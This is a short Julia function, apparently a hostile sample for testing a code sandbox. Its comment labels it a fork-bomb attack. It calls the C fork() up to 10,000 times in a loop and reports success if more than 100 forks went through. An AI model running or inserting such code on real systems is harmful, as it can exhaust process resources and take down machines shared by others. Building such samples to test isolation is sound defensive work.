# attack: fork bomb through ccall(:fork)
function hostile(n::Int64)::Int64
    forked = 0
    for _ in 1:10_000
        pid = ccall(:fork, Cint, ())
        pid > 0 && (forked += 1)
    end
    return forked > 100 ? n + 1 : n
end
